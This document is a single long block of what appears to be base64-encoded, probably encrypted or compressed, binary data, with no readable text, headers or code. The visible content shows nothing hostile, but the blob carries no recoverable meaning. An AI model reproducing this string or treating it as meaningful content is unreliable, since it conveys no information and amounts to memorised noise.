E/hoKiRQ5OmzK+j+Y3AGf2JlT8WrIM8zqbSPkAJimRpSlQ6HGQMic/bSjSK+LimcnNuFs1N86BRA3bPfUj8Tn+dRv0sMzaozphzjgcZKKTz4s+9vm+sZtt5mlfPb9FvpL6AE7vXHM53GIWPFHdM7CgHL0VNCSchiFQ1DeecBFQjK4XBIsBRVwK5eerAPKCSn7iz7cdjA5ycjoJf2tW9/a2Jvu/iDSX7/fe2f21a6i/JTRtztlAKIjbFDRcVlBXSPJm7ucuCobFZxCl4cRrAqBaOPjypyYr38AkB+SPKqTY2kBkxTUDQlmhkvlHaExdXOzeB40vDgAIq84rVIdhc0L+xgY4kl+U9zvPrJl/pH9fkFs2SuYxBrfT7SmQPJAMxxWUCjfl+a+7CL00pD9w1f1096pVTOrKCUnF8giCntqGOLPTHFiWOk+3061zWnYYczeuHbh3h9yWM3+pOzXW76Mr+KeAIhvPCizybf7IhFHKsbBVa3Ba6V8x/uwPjhMLEpwq5GUB2rLSXSezZ0nzcT3CvozC+qj15VVE6IAuMAiiZ+9ZaIT7dCvEWktb+WlgpbMtGcoy/DgVYALAD6VNxEpQbuyVsHsn+A/aApxZZiAeubfUUQCUI4/K5PxRK+REWDDr+mCzMTNeSjD9uOXt8WnRa9AbaMJmT8CR5cF8k9ENqhQPrC0ZWFHMmlRmkaZ4mzTAiqlK1LN9K1VFHwpahaO00nRe44nMSdAmAJRqaPB8IsZKqLiUfEa4icw03nEBKhI+qfZhT3Pv71OAOJ4uBAdcJr7VMllAqkG5FRv9SZn9RRrVgEyahSJCxy1B4/t6KQNud7o6QgeXxhQAmSJWuXgWchh01mXHwYa7Z7q2WjXG62DDzGJpIMY4YSA0oMV0LUBM/1UM4rBA/DeGOw7yB4njmDR/qlXYGRVfL0rGDaPQ4p8RYGGomOujHQpFHKdHQ4P/8qsFMG75i5m3CRM8vJaTQGiUTcPQMYfmRbCIT6MIlihV4+oD9AUWLnxf0uDj30hOj0aTi5sJDNcmbQA7dab7iz1tntzHdhUU6Xz8pDdnUfAfzgeXvBP6K7qT483EBRMUo7wpPmGgc6i04Hbezjddr4GB13MUB7dMqFknBrPBpswg8lQqsd5wvvlXRlM/pqKmUY+FU/zkFyKPRDX8wNjLOsDkr1OW2r/yO7IPx+9Uukq4hRhmrPHptU2ZZrvwKNCh/ZokeWIXZ6m2EgfZ5SX8N/gyaggp0605zsGtKJFfxryBH7G+ZAknq8aAKotZ8atH9zJS5xD4zMPeM3Bq9TTRxTLr5B5C8gQpZMAXlUiI3O+0BV6YlHgH+lC1EqvU9gPeOjF90wEvhFFGoJQ8wxN2G1rBZgF301ubPy0q5uYsI/ffYzlFS8pMyFLqZ4/sMl3m+bmytTeCY/epfJ5atDVvNeE018PMbcChq4F9ry2T5eCfPGeshXiDHurx3A84tBxRxU5nJlrT7Pu0tx/9VestaWOEDCIRKVTx34F0vz+pCWtoAAbDEPuNJJsdMM6yelt1fWd11tjuZRlDnQugTse+CoV4MODYTG2zQJp0GaJaSLnagbq4NPnV/DuL765s3GAfKVov/SyhyyKeVZvlHZfK8jZV9g5bU67K1vQ1a2adxq5dTg9MOtRYd8sJGvJYazoKA3tnDdSBV2mTAhAjTIyZnfProUO46j8tQHKv65CrynrS+zdi0Hh/nMGE/KKqJdSfwqF9xi+1xR5gB5YCW5bD66qGRVpdUB4IaAgonS2X3SC0Dk6DQ4ov9pxpVt3jm4rI3He5D7hdpxQaZlWxLwus+bYOy7b7ZdDNQOLY/5QLCAnt1dO1RLt9nD54nBIC04jf8THg7lymvDgXZoH2ueg5REM2Qly8XP601ICBVXCTHny2/ENieoCN+sOsXM9jESVyqbuEbnXfIKfbV3iH2cE4NaTTPHHWpv0PshrC4lvERb3adnjAeCM8sObfSvPQJgwMpfzI3P7gWS2bGEn9s7moEWMyZzub1LzKU3vtKvZimza+cj3QGVAThxaujLQ1xtmGA+qpvirahLtvh5r7XuYbR+9ljILDcvwDOJVNWxkKv/gHrs5G4Y68EvNIE1BPAdDYqaDufiUQyJ59BIBoXUYP0Mowfxfqcqb7YxDhccuvIPW/nM0NRo5d5D72j0Vmy4imn0FszyAwfCE2JgovqejXYx4M1g+KT5wX4yWHniOpt39yxxJ2BRxEOA8L9FWfpz2LEE6TyeWTHJ+LQidpF8M6oB3COTjpZaBTGRMnlr4CeDyyP3ZfYvq1QF8597k+gb6rhi8+HeNXtkps3NZWP+GJDvj0ytMVoJN+jBuaiL8yc4l75TkX9pTESiyC8kl9TsX8+pZS5v2WbPA4MdPmk49w0vV/25i4UnhGHOfoyI+KdVTVFrPN6YEASos+ZXGnqh0+kMt6QqSiRMB5AYVGce6NwfaJKZR2B96jDkOasJRO6b9yWhRHlouWJRlyw8+P6YYfjEe/sG0CJfap7FVqkQWMnAqIIPuP3q1bShtjQTNdRoFc5fugdINypFoMbfZcH8VSB22kzu1/WrjaCscFzdgASVqn6/ohXpVNKdKEAcHcFjMpMeNCQLKEXyDFmRxpKbATSzlKihMD9c6iaFYpNWNEYnJ/zG7+t8MP5W6RHditRGQ7YpFlFKy9fb90e6K4lHnt8o5ylC4eQtHWueoP13Z152vXbXLDCdpSE1DWHSIL8UzxhFQGKE61fUbUP0koDeDJvM+dBBNQZtxkD9GpabBDLdIGWM23awjurE3K4R1uarbzqildky6LH4Vr2XPqrx9LafyTzMJjnJF1J8YX4TRvYEsFQPVKdWaepaKJNtQfvXDHfZTrMd8jJPHYWHFekjI8viy4vsTNj+aXEEf0v0FVrM5QVh5Mejn+bNPJVomRnvya5s3WZCCgaUMS1+3iTGIaQBqZ86L0ErOrmRRGcka9+9oL/jvXxfp15QUg3AAKE72wegYS7C6oNHr+bF6G4/vR9oej2tmmV4ok5Jm3+KIe+Pfbrq27DcTw1OPBqR1wnBquYNVz5HPegC4G1PzezNgMgA0qjV9dqXvyCsWqvmOjVPXZsEgcInMgmunZL3qEzkf/1cKWx1PYAsyRt2vIcW9KQDMTvCAz1FMEBSf4WrPkrmw5bMheVrFoWltO7Y6VY/dU3dt5ODK8xRc6HZEC9hKOq2N3rwLjPIGIMjG+TGXcIyKcc4PM3OkiQXiz95SsmlhNBosKa0rtmP2XxOgnBbSfzb9/T8PSjba+mV+emMtpDYQMRfzTy7BLB9W2SjBE2ICwZty1QXgJ1erOdfh2VSJfWfZy6IQjmLow8GCmRcu4FFDkFjqnrqwLQZXBaHTi4CoFXljKkY+7VJKywecy44KPaKouO0k52n+exO2rGDvDDCu0zKI4lZp62EvvxbDXU4Q25g9E2k4jx+xjGhTdfmkW50RT53vB9j8otdXKkP4stOd9BBnQXKMEuNF/c5EQRnYkee+so/f/BshYFN1Sin1vxKlHPrVjS54NLoZpNeUV08Qn5cXy27WBEmOL6MkVNjjoqwJYMk32vQc8Ro0p5JSMSCr7OPyRO/dZu7WwPwfxHNSj6E2vGE+pZbCdPXjNeOLrNCDIFVbk6Jzp26OwJdAs9MSWKfxJIJR2VEns9saHgR+BkDWq7+5DNG7NFdX5h+8lgsgS8EY15Lh7nJmLWBZmj3XJv+NsJjlf69VkBoGkhoHuSmz+FBKcC7bmMpDOgR/OkMn8ssBsESKSzawX+d4vMTEWYQovBsjcEAmrpCa8GRRedrcXJtU+G8ImTgnoLxbxNJDRP4T+E1YscBujP7OKD/WMHXBAfXGHhKTUPJ9+JcC4FpSUf/bpdu3P54g76d6YnB3z+4g+03y69wn+ztAn3ypT6tQ6k5XCwIJdYqbF6I0QO0N+3ITBYiXlGT778QxxVxFTQ+5q+T1JiYy8dDA7vstk8QTkeespvjmdOmDtEqZAOQTfBHfQLi3AFVOV6u95Wv0pO0pOm7tYvneV3xOIQicutt3BF2TbmkIzcKa8nnNdwqoXa7ya6oWydtwfO07tTEEoOK/qCSl8ruT3oV7gAbVXruZhM+e5K04swxStr1Rsg6MPvSD1eaXRHm2JPtsmEHmp2xBC79bVfLaxNQrIIPs6G6OMnoSxjOooEOtEpkgRJUbDbzBEpu8f+MUi2HbAQusWxSoS7LjKWQF1CeZWCswVvtqq/eFw9bfkQk4/bNdATAu4nmSrhAZKeOQs/6AdJjXm1etC9vWLJRoYdUZ6CbhZxYCFk1JzvyZYZ7Kg58XuBXWL+3mC6GclMnvWEsaUQqmi8HDhf78JP+4Zg9i4Tvb2KSkggBISmI5rmLm2fKNcUJ+yfpK73e05cMN8DYC0rWp64zxvtNRPSk89/uY1KIxvnrD2rRfsqfGxhI+X1TjJk35piGCAr8ay5OZ1nvhkqbsrklexcOf5Wra+4IeckiyHdcm8/Cv2MbkT1rjE5mpm3+7btWNeOGwZqPr++3+5PpQnr3eOsAkEy7y9RaPmWuB5C+GpjXhXgMr/9n75P6bcyWOGtCyTCXcx6fBvtYlccpLmFMd3lGMGu0Gvlz9MVBvzpr6UB3I0cQV0Lq0IjEjcDMtn5MBP9RDrq1gch3t5o304F8rsO5GI216d/8ZMrcENyEAJZise5GWGA3LS+BINylD72ulfFlMF7tC2PNyam/KCxUTAodXnSjGLovzY/eXq1+TihI4eyxfp+/TADCJOxCWovmyB5YsTHhj53D2m8kL2H84bP8Y16v++3N5rWMF0qpFE1M8oXR/KWKtN6I1lnJZaFXmjillQksNgR38j/w0VkKIQT/aDZOiMAykx6LjajlAZvuE5ifufbLv2+hzrRsymbGgqGQ8cEvy0TKdfQI43jmniyfh+ByF2OZyXH37TWbWDn5+n3CeFsAE3/ndkIhvW0R/UrzT6k6664992NoHzkqg96FwtSWaKIhEgs9N/rXpmQRND09c3fjMc3stQgoe/JdQJ7AAHWRoE+LquIRTui3u1AzADpLz1FKA5rbsY2sVF1udWISJy10Q/56FS2Q+F/mZp/9bPwS6fyGo2XxPpk7IX2aorzUlhJVYj4NpD9By6apx98CjkFZHOm6ZVufTPScs9uL7gC3Elha5ZSpAdICdR9zpqXB3ERhB3T4nWrN91R+wKHNn2qpXFWD26vRhZlunm1yVPLz6XZJ3OvTkWvb/ORDAFyfZ4LsFDmParF/R0XQcBmrnWg6PqHvNElffKws5plY+1F2EoD6rBishBYnCxMMEbHb/ubRsehA1T0udgnFn2ESSBEq3YXjasPqbOBlvQ65KTFfMNuBKvDA9rI032jcIMhY/lQkaMwHlrrIzxmbnGjoPUai0zYvSo2nBtycV9uLUdvYgZd2GGUbkKhSc1rUJTD1qrFtj28ZBYAtSzLsGUUPXXI80qDnUy/x9bq3D75AqxGBj2lw5tGyTsYSwHl/OpR+8SeagdU0BqXPW1KaPUCKFggmsEkmXBnfoDpOf/UCbL5jJpZer11guUzarrNeUb3FsuvXbtigGRz8+mw3jsom7Ny1bNNOkA2fMId8ZkOn9rdv7s39Oz17ynvPrL85lZtQkvKwXMeIh0rd9nfajCZYI+88Kx120KIAl7/tBE+aLkuDgdsc5fAXopNyiubQQrZYAY0ETjWFczTmo6vPTbaTT2Cv8RU05ctQiGVDn0VqXNmTz0r6xPd7UMfeyG91QiVwPvSYt0LfFrZNhWlfJiv5nkqiHaq+G+VKogt6N60PHaafV0Kmexd1YY1gpfqpD6Qm5JbN2FtwEnUHjRAV8Da03LNSQPttpIkX6T2gknVzPYfKNF878gC/07CPG0n0c8NILAvhx8URT2SxVj/U0VzqmnBpVNeTqAKKqcbU8IwjRGExqLF9E73JzFQI+Xdjr+IAFwVttQJy19Y4jisPe/pD/Mq4L82VmJTaQv/hfpz4+tsCmnyU2kBfzzweOWh67NcqrJAR65e/rVIb1L9foKmkCDaWtXXHBBxou+y2KrK6lhdODQ1QfyVcx+9lamWTpEpQmzu4yPo+62qROQ7bvrYIi3AX8X6hvR0/RGFV7DQMd61jDSYXJ0a6FYEWqPvCe4SuH78ZRZbhdFrdfFx87NDyKott+FT5K9pczUGe2z/vApEwinWfmAwAzgXzgpupNC/pbzycrjEagGBaGSh/XJUxmI461ClC3GJrvv2WBPodRYzEbL0ZL79V+aMBhkKn7BehyD32Rav83cx5Otc+vexqFMVC0jH07KVkq1EgvGnC2hpLBXcO/cXPAHNwD93w3xiOVc1XxNCfG8Fz2FJzgZCjZMMREPIQufx7dloetG2cebOI4yrbEon6RmfZ8U9JcRaXQfLI+wwjYk8lEXQh3VBXLGXNc8hchT6L3q3C2cyeBxj9eTR65f7F+YmVv6QON3AThr75eBJ2SGzJpG3ZCbAARgbOJjr+UcZvIl3LzXK3ne5+Tq7kmrPz3MqNZJeTOH5pl3t+iFKFHVDjsQ19pTe4UtiLZoUnMES4n8rm7jt2+jTS3+YpvJ3WrXpQuCl/omlyUMG6EbQzghNo0XNQWeoYUiRiwu3zmnO3zgl/mcOBH7IWZvTmxfejixK1S1eO77Tivid4+B40qwZMqULg89loSNxGSVH1p2r9+V2mwYOjwLW4JKXuFm3+2lRcNQXw2JDYKX4vOla8ZtwIufis0y7gfsZOkffB+9FYT2bP5XxBa40g6islewY00YoXJZkX50RmnH78ky6ajdu3aWXpsUh8ogDOc+6q0+sswIuN6j9zuYOXpqavyXztX0qLrxDxmg3Wzz3zxfzlxnZpPcGiD51fA5nL608hta0uZO9Kyh7DbncaEG4rvGCxjqij7NgwE3EpN37jb7o/0a7l7xqHcFVa0OyTHmXKrw8bCU9Q4y5GAAhijx0PZodmhP04CxRa56Hcm/JMAq9+twdPddhbzxuAytLmoGt3osUgfc4pbnKSwvT57/ikJKvzU8ohzb0WzIGiER6wzqIj4lvVN891vCamKHVdAEJ+fKwvFqLRB1ztvDXPDAn0nKIan97E2H16VFWHXWYUz9+714HSAavDVKvtHFfqplcoTcV7EBYZygQ929nNdC/x6Ong9ZXMxh6PHFU+Tzk6sXbU38oqBQJPHC80SaxVUQ5OKkLmePVZ4HaPvVWWTPbmIl5jtL4LZtuinFDTCA01iMiy0fsz+IWUlFvpWOKpUnd4Lhs7Cg/+IjjzXy4i3HWsD8Z/GikuhKeSRtAvVfR8+47h8V981XGjQCdM0mVhNJcTK4UtRxMU4q9xglukmlVIa6oMm3+G2T7BaYam+DkN1GnviO/oTg43kJUmc1lmemjnVu/pjgCihGeanMum9tU4R4ltSFb7a0MZsmn+hpLDxKQKgu1V5DxYC7AU8MOeAejBW/GoW5qvdmhS4f3bICCnQEswlsq/jXGyMeAaLae4qNWJpjXW5UF142wM5/YQcH3NJ/eenbekCP6m271n+SG29E7jm9UCefRYfFzbjRlhHJSI1eRpPDM5LM+ARS+g+9MGuM08HAbjoiPDe3HloGUmCgG1zSY3Siaitve2vD47uBuluFI3XpugtcSajgJRP0EA5Pf1JX7jx6Pr4RG5QZEhN1+xTLjn8I9QRztwrV0izMTd0zL0oqK0SRCQARFZjcnaUF7Rsm2Wq7MrGWyRjLCMoVzJ1kPKXzLXHEJkoaaJx+QixDDAHC8s+2305hj5z0kaUF9wr+e11vLylwaDSFgqI9akr2gDcXodyqa4TaR80MoMDrKb38BXLgS+yO8nQC+xlO7xdZWMflTZQFb1omr966Pj2ypzYrE+q7zKtNT77XW2obmsz3VuNAxLl/QSyzF98I6sXjbpUPNJidPZaJ/qFJQEAGwqmBAbJyrora8ruNBb1UCw+WqGBjPlMm2qx3VWbxc9CCKy5AtqHJEBNBagM4uI4g669B82Yf2Drc7D0xKNJ07NS9MKipKrIVjfINQXz4AVjtGCbv7UfL4cbFAe+zFtI1TFbQYsHue1JL3Mndh+22sZuWmmtZg+2UbKTGC+QesMfRARCpFy3l/rcInWUsJYcZY6jaj6vmWG3bFMKdvfXf7+Aq0N5rbHdpmLCj5YMLMQV1JHgTakOcDyy6laMKwV91pSfgNonKuSuCAq8XPGEpzlJbxDQMOV96PTqulYrr6Hffbl/Y6Gj19cI5R5JaWv2Vw08TM0zt/warpIIYWbnltCy1tMOybIgXxlCp9xWtAAiZ6fHfVlRaHwvjL4r/nBw5Tk4qZphuKZxs0qufgyp7s9HpQfV86Y4F/L6oPITzbvGM4IJZZsQDR6kFYC/CWRh5gpeHz85Ku4QfxXt6bH5LZpmlJwCMagufTObZE0XTuF4E55uVLHCLupvh0o+Ax3kK5gPAt3Qkq+zTfkgoJtq4cBUovKmorMIbFVePh/bk8HjecJoFdCm8m6s3bg7OxK3jZgXboVSKJcP5tCwxxEWB0E9GQcrY1QIj0404y/MxSeDuZaH+EI9T5EfbBQAXNBQ1U1XxioW4JM9gKXcPNF0eI+Jjh+xDC8x9OeFRXp3hINkbCzqxkGA4kMfqEurSe/4PLT4KRhaVLwQmzUhXBa4aE/u6d20IPTDROQeUOqcIIy2waMcLJT8XtLlXnfMgFh6rvuZFQrpybhES0ItZ+cpHdkCZrUXRERyEVY21I0XnZDxL34fP2Gh3qw+gDDiUv4CU6WgKkMt4SXbE/HA4ULEto6AiSkBOU6z/3qXneW4Y7oUJF5P9h3SLrsUjQJwk1InjHWQJlP7QQdH7JMS4tyGkRa/sA/G3KbOfrAARcegqFohmwnMWFXnfrufexOkBhIiASTAXZV8W70dfR/ocajnAI6sl7iQ9KHHMGG5m0nJ9tI9oSM4GhGqDZRqdEzEwRcWUTzY0c12vUjGgLJ1+xRueS4eqiBzx9qr2cFDLf6PNX/Q+TDRB8Ij5BFaIedG4GUO4/UzkN/bUNnb5Izc3FqHJ3Sph35vebT5zoMWHdJccFy4bC0DUaWK8VheqFXnw05/9ZejQTdYrYvK8rlJaufctjeChAgpwzcCaXckfIGVpVW6iK/jRldhVmxJd6+gx+qfXxkkmSSHFXeh5oglA6AGsHl0ceiZFnpqXa0Gi+eZRmjC5H1jmlfKYIWJXQDpvIiJmypBpZciS0hlTvO4F+0SSP2o0gDhAt17dZ1/f55BP2SyWpzXUjnPLkHWAbZu+qvCzkRdGARvFp2SgGePp9v76Ky9/CqGa6lb+SGHat0R2jpokmFxlyvsoBt2l4JILhDGewf2EtVOktzEU42ZGrMHBLYf8SfUkWHx5PnfnOdfpX7vOOQna9gL5OT1HnbfEVTxFvtqVoo0Jo+xxvV1NwnHBXZwRiVmNkp5+YgKqOe28UBPveT7U3RK02L1E6eB6BLfY0S90H2oDVyEi4QoC0AR9lpfW/IrJEZhZyEzGUVAUq8NOQ2n4uKjJ6va/5pL0UxB/NTkXFXqMujcgNQMMlgzXX4Xe5LM24Q8yiYvp4biP4ROq0Y4oLJ6tu3oKPvZWAJQGZzEU+qZhmyT/o8/OgXMiL6nM60A41txWvhLDQqR1N5FXhLqmgt19I4yGu8NAicAivWpdCeOqWOusc+8JPiSm3O2BU60KK9yCoZVigp3+sXrbDcOkh+PgXEe/lfDRkTiTZLeLDB2GxT/2UxhN7gx058Y+ij+qIZWpQ40R7XF2yz+FILhbexhKX2JWVGZT6UU7XubynFQjCEjdWE6rlu94jVZihgMyximvA3QTQcRhl1H23yzUlP8U7kP5Fvvn2YW6lVS5xj5zMtl4KPjo5+B1rgcU6kBWVsF6B0d3FoPyevTaJR+cFMLvVJTy0X30TaD+m7tT8uEsbQgn1hbanGFtcj+aaDoPwg8Ftya7bGUXKwqFmb4bRQi2Y3LzF7KuytPYAUAbj3GDtR6tXADeLKjy4S/qxIVInROmrUjhgoZephu6HocCaksGfAERGaFI0hPF8ozvtPvT23iV4e+1X7I12afoJmWuiVeqD/kJW522P6HbgaZcLLjktI5LF+/hyjHGnL59X3vuxBMFRHkB+Do0pT6+pciw8t+xiMJZz50aa2nkAj9bdixNhEvQMlpQDOZY/V9KniROMWgsKT6LC8nPRDjJ6cNHIWmaoueT2fTk1lQjnYtd172lteb4CqybM/pt0dUqjCHukX+hK+tO6YoCOS/EtWC1zcrXOBaoxx5YQsKkhWHW8yDnrWnWwG6ZHAbvmAX6k+YfHZtfiC6QIEHRIcVxNwRg39pUh0LZa4l9pvCW070cfiJR3dWvQf3hiu1lH0pKjmKgmw2C6SVuRmOUztWeULdYfqQImWcLl9cyyLxyiU7zGJZNH2nTYbV/JQEArCK97CGZpgZ74j3FhZ/9ge2Wp0Dq94OdLaoQXDduF4PPebdaTTIUmDUWN0G9iBFwDmcecZ7MsPtJcwnyDePVB+uepRVykVi4nWE9rhTKRgE+QRTvJwG2snwk+bu46WvguuT5Ry8fL7AtJXOZoVsYczvZsPHBNGKR77edzD2VwiYFNF7YJU/mL29CzTB/zRKuTkKLvH5ocRuTOOpWs5W4/eVMb4al7NaJ/Fyyve2xxCtUDewbQ+STnxxiEJHuhvZDeMurQ7DDhkKbAHoazKEIFdjXJfTTvHIHIV9GXUWwcIgqIMzzEx1weAMCrZcW43hQdyAY5ZA4/Hlg0jkA5YcwHLyYKAGdMTIce+uqzxkTW2y1SuSamWg5AjHSIG24DP1Hy1mTM2ej4B46AJM9t8gQGoelqbmyI6VXoP/Nu0sRLvGD9q+kfMMUkngRfbeN/yZbu+Mk377TDWKwjE9xloBnx+Ib9ELxqCrinWmFh3XcaN4n5VnMv2+NPsBRQUipJiTFck2+jhs3ETpNdCnpi+wiypGAxl3zwL9alCcZHyYPap6rGyKq2D+lpXdxxF7cg/PpZ8fBdC6LPhO5vSdJ3IT4vgGkMpKZV0a1R3cdFzImttW6hs3sgBNS7yfiQPfUDKr+OAgmf+MQAK8Fpe5SsDJTcEsmJwf0VJLl+PLdJz5+WIgua5upFdtN/oj/oFc1nzq+J7qeGlUIBq7+x6nBupytQEr+UMEFk4dYe2Ly1vdZHGFHFtMQvkZ6bvwvvs+FDAFN1Qkm3G8I34A+JhYHU6sZPaSzhnyjty79XDqCaMV0z/pIvWsNDiOy3LUyGtzDsxPa+LmFVJuC/IoWNob7gtHQelZSR6Rdfs/NkESuWlF2ed364jLzh10K9IVbYKNfxndAX0fhnNX3ip6H6qIsxxuhn8XftwaUsK07TpyUyhUqY+7tLMImD+WH3jRYTADs0RvD0b5uetzQgQUFL2uk7KwU9q2fuMdocNlbGGhY13fBxyWgepaMl1C0mkTizmtELnVbbns4lSH6UB5Cbat3k3fmwzo1y4Tw5MYrXybf8QYo9wtjwMBDUVvvfR4vq+t8baR6sqR//hugWvUFr3Calcvydsmpnz/QCITumDX3T8ZGXt7XuABCv/qN42tRDCF3kEcSCC7QC+G0yvq9JbwpyHLxP6Ce7SnqgGGtSGv9hB1DL5riBEfd6b6XYoNrx5239PZsM7q/6WzFVCrOFs5waz9aK21VN5GJbahenibElCD/jH7aC/8b4vMACqhbadGYztwateZtm3o5oIweifr5HKLnXE/yAItj4QZQVJZVwdvViyvhRMf8HdNvCBRbl0wyzXsYeXgDcqhUb/lR2WM0vMf+ZJZ+Uz7ZESV0KLVf6rGCJUrWTlgk5Ter/rHUWc6J6ReR+OAkDwuALg+1upg8A799lI7HCu+IEesEB2gak8hQR9mrFa503QVk3MeQs1C1pr0dGOMBZ/S7rirYFLcJgnGyNVa362wZImZwrUq9B8NZ8IXa1XkTl+q+n7SV0TsyhPcBFNMKGbOC8+7NXpp4cf1G27pHp3iIFSfslZcX3iZCHSOoXsUge5td8tgulcH0OuUyWtxG9s/M7xQeUIaQ1OdR/L03nssH++0HOS8Jxt8yGqWPw1I8xUaNbOLTMd2MC02u/IsjlZ6/U8r7/gXIzTl7eVHNigvrTjam7xdq9Cn9UoAnqe2xs4NS3MdoUYvGcbBmU18jW856xIWCZq42pdIfwleepB7EXQr6NDafjtS6YCrNmFvM08gezv62h2Ts0r9yRiqChdqjkOMuvr9crOARqCA6tpZrNq1LusPpALGG/oLbnPOtwIH+ugeoL2grD7ZJTtP7LZ3Xifbmu0GI9X/7N7H7kQ6PHI9a3ZuKgsflLfWBkmoKbDynXpWJqhj8i5NWirB9DWyzSKgQuOlt9hkzpy6Pv6ipZbkER/IKheEOWWBiTIkUXLYqE5Fw9bvLsjQUaHSWkXCztxZzvhvdxICzMnntNrcABnerpY9WQ2lQrEXcuRqYDJERT3DsJ3d1Bz/JaK7RXrAkaGloZhqlVysYqv2IE5ajBdHospGTAx5ZCVoCsWCzy9EQmwE93DOvOCnm778dY8fQgVn0NSOHF5zJzla9RzIGklyAMG+GNuG4WWUGg7eRY3EMHLj2dsci10KiO4lIKs+77O/L3DZ/VPm/o1pjxbIgEkhTZ7c/LA4BWdfdU0v/8ju27lelRmqln3SKwUGj8lrLmIK+FGSSkkKca6rj3KkuUQ+DKtZUxwvsXcNzDaO5DrRQw2M1dDbRKtta7ONLJiAv+Xe3f3akPKvqcF7pLZpHQC8tSD1FlJv55/Aw4iHJesfB5T6HGaZzMyyBvcuVo3oz9Ti+IH7ZqwSrS0UNwwg/aZ4fqg4LJNNtwmyU7EYTZ4MxcqMeP1egm30AEYDHbQv5eizKLv655t5CXwLSH3m1nfH/VqRJ2NhCK/j117EQWVtpHqpMoaLUilVNQanutxzn0yiXqLkuJZkibbFnvHBrdgBCcGOlx+F32bMfZfGWAKJIYFd6Gl8SEJi6lS1oJxTqTp0VF2QIpkl6QFKueiMw629vEbgbGsHZfny4rzJCAs7RHZmgkQCjiU5kIFHTyAWBdB7XkYXRfCOhYfY7s2BoMcndsoTj1uFzK9IKCeUqpU/4IAE4GevjUpJhHHwCH8NaFKXRU5O8r2a68z197iGh3PYDuSS2sll2PrChb6fVY5f9sPP44hJSAMDA2kdnVmZpdks9C1p6VZeova8jpnG6sssTICFSKp0g0mZJYxITeZAzaXtZQRn2//VkzxbdSC/WrDuvupcts+kYyWpmrloeDKh/BiyixMxlw3AcqI8t68yc7e1+NJpgi8FpM7mYiEp5C7rynxPyt3xR/pxsKNxGUD7LqcQmVkfbqre2ii9kL9dnzax+FAv2n/Xy7l6Y8GoPc5IsFsD+ChAg9cvrpRGdyatFdiFSgm53keV8bhNIcAzKE/+xdD9fA4cFN/RPZ5y/C9W1XUCIzJdRVoycmUi2jjpeBb65e6/Rl4NTalYs9SzRISUN32dVV51d07jzKpE/I+mAhY+tqnDKOy2AteAdNCcoBu4TBi1OyYnoqV7JSkOxDgOl1bhI8tF3omZ7DegC7bQutA3kJnm7Ecf2MKJR6LY0fyxTAaGhtjnAqbYd7K02+11lKx5/GhbWMVipO+8q8lmE23bxiX/kixgmwF+GPrmlpY7XRjPqQX0bYAQuY75MS3S3clUYNiXs4lwZZ9ooatznISNnJhppknh7sD1Duhf3W1flaFPiPwC+5QIW6VGFbvyq8kHp+X5xQiZiRcExOnkUaJJZCFZqHznQ0lJDkKh2vHWrs5DxPWAbHwyhVrYjFs3cRVjtemjrLx7WxyX17NqtCWAZ0WggvY031UzaiTRtSmzGLSyuk8D5pKjCMM3qu/NaY5oSEsejQn4/syUUcgwl2H+RXcdF6Zo3ADCvW6GwIN5AsCkjj072lTm6hGeHRj6+dVsCgVPXUy25iSulyMXon1hMp804ZvJnZEcT5oCg4Sh3LDuYw+cNTwo2ndqbtxwZvODPqZ1AXi03nAcC/af06HccNg2SZQcuLNeb/kDVNkdR68cgOZvhC/7mDH8J/x5EwMKMXqUBovWrzNXDda+1uqmULtxmp1TVjxkBD10x7+3fswvH2wan5Ywxc2bfljR6Jj6iXKrwNDvNi9mBUCVNFF4waDuD8lB1KYtIbHLuZCMAsLla65XPnXCq/ujPiiE9L4OPSIop46m/e4kuafqg3V2qJctAEiuS+5M1M6FqQ1V2H4jOtX1UMJEz6ojm/LomnEOXnxql/lQOx56JmiJs860PNmeW6+q8bFfAO3tkV39z7PLMDRxrdh4Cj4p+NOQmoj5XFQP8c1nkgS13Z4a/pBi++HyvjRosOmKc8ck6K4qI7hBilFquq/6RMbb2FOyr9vBsdmqsx+WR3iPkwWTpgSknG+Zq7+LlY0gswnaUb85oby49dIzm1qWlY+1jVCeFlGHvf+98a5okcJqxthgQbOWvtSnuTcWBqcKdn7OpK1IB9r64PEJgDOIEEACqNVzhcnkZsAurLj+t3sbBvbbwRtyemY/Cl0wVcqwHw+KlmtL4zqDyyfvKTCwsBSzuvxHfsiiUGKKLM1F/Rcv/NyOmexb38YKrFaCuaPJCvGeI2akuUKHE/lQxW6fDu543oQDobxA1vtzwnYrMOD9f86uew+t4ibFlkT0K39NnnAMSJRCHnNPO8AxYEnJKWtpop6OpYEUmzyz9J0Sl8P5IwHBM8OHUeJcco6vrnPi0XrJ4NMB38i5ktMy4axhYJPEhSIz73Q2x9wZNx9T6ho6V9/ZNNb6zNy+huf0VnZGBdM+ZwRAl8wQ/akoXr4qVWZsLsmqPjz3aNLadn8ck4z8VduRvO50rqVHnl9vZ9hHCAqt7E4A/qaCqWfmYQhBGr1y8En6sHzmuhdxmAPboVfOR/MCVhIKDGoeUi8+5K/W9/KspZxt0MyqqvhF5GRF/Oda7rKwktefloizUNuPhPbphvav/XdoPK8C/isgpWM+0bhrUK/pR31hJKU4NSiktperOMMTeUa/VS/KnQcbKj5V1cCgp/zgyrgqLWgZAxNhscFzM9ytE29zvZN5slumkk5ze8SW9GHawxirvxt3QOIFKPcMaazU61lMk7dy9a//0YdLEZ4RcbyHWoZGUJs3ErGUK+R5Jzwpl/8po3jiwf1DvRZtP3nnMzHZa+zT838bgwPMcD5eaMg3IYSJYHjhMfczmTtnQOUBahOrc41nEfG6n0bqd6XjUDa1xTDhdFMGiKWfvGGX+xIAb1h2BX4zBGdXnx8EWYaMJRPNNrXQUFt6S/Vx4AvPIEnFJugjFBCY3mbtdt6K/KfGC6qHEBfn/OBpRL4axZOSKi28nldzfNydElkyquFFly95v+022m539kZmZWWd6bgr3caVYiW9MBjAmHJXpJ/By6fSPZ4Ix7eMxKVqH8F6enwKy6jF5us00CUUIqal+blL3uohMCB9irdX/HK/4SW9k/NImS3LaAEWGg6LAmu2jbSjUmY+ospz+i1n17+j8cUvWAtOKFTHWQg55cZyw0WDxLYVgfHzGz9K/3f/QKq53PtLrtayjXQJdJO9YpLbpKB816QXBi7kOh60lMsm6nL3J0/Uz1viFUNItYJonWW9wX85Hs3TvXIwXGancQbucDu11IZeHVyLov5FB6oKDMrn7kTeCdvmDJyakxtJ6AXCHGECUL7jQKOEfIHgLLNAPaA63CnxuY73yWG2TQlbJT5R+2eYYfykX4FoZKmyI+i9RFFfNMP1ZmMXGIn+9bgxBpTILla3MxDKCYCeXk5i8OI+yMs9PRVNB+QzL/bdvVgV96uOjcKiOy6CfZH+Umi+8He+PE9BwbM